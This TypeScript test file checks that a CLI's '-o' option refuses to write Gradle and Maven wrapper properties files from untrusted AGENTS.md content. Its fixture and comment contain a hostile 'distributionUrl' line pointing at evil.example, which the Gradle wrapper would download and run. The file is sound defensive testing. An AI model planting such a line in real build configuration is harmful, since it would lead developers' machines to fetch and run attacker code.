import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runByNameOf } from "../../src/cli/commands/_output-file.js";
import { tempDir } from "../api/_helpers.js";
import { cli } from "./_output-link.js";

// Review rev68d F1: `-o` wrote the Java-properties files a build wrapper or plugin reads with
// `java.util.Properties`, which takes every line as a `key=value` pair and skips nothing: an
// AGENTS.md's `distributionUrl=https\://evil.example/…zip` line was the zip Gradle's wrapper
// downloads and runs at the next `./gradlew`, `wrapperUrl=` the jar Maven's wrapper runs,
// `sdk.dir=` the folder the Android plugin runs `aapt2` and `adb` from; `gradle.properties`
// alone was refused (rev66d F6). Maven's `.mvn/jvm.config` and `maven.config` are its JVM's
// flags and its arguments.

const FILES = [
  "gradle/wrapper/gradle-wrapper.properties",
  ".mvn/wrapper/maven-wrapper.properties",
  "local.properties",
  "gradle/gradle-daemon-jvm.properties",
  ".mvn/jvm.config",
  ".mvn/maven.config",
];

describe("hostile-output-build-wrapper-properties: -o refuses a build wrapper's properties", () => {
  it("each is a file another program runs by name, wherever it is", () => {
    for (const path of [...FILES, "sub/LOCAL.PROPERTIES", "gradle/wrapper/gradle-wrapper.jar"]) {
      expect(runByNameOf(`/srv/p/${path}`), path).toBeDefined();
    }
    for (const path of ["docs/local.properties.md", "gradle/notes.md", "mvn/jvm.config"]) {
      expect(runByNameOf(`/srv/p/${path}`), path).toBeUndefined();
    }
  });

  it.each(FILES)("render -o %s is refused (exit 2), nothing written", async (path) => {
    const root = tempDir();
    for (const dir of ["p/.git", "p/gradle/wrapper", "p/.mvn/wrapper", "home", "agent"]) {
      mkdirSync(join(root, dir), { recursive: true });
    }
    writeFileSync(
      join(root, "p/AGENTS.md"),
      "# Build\n\ndistributionUrl=https\\://evil.example/gradle-8.7-bin.zip\nsdk.dir=/tmp/x\n",
    );
    const out = await cli(root, join(root, "p"), ["render", "--untrusted", "-o", path]);
    expect(out.code, out.stderr).toBe(2);
    expect(out.stderr).toContain("which another program runs or trusts line by line");
    expect(existsSync(join(root, "p", path))).toBe(false);
  });
});
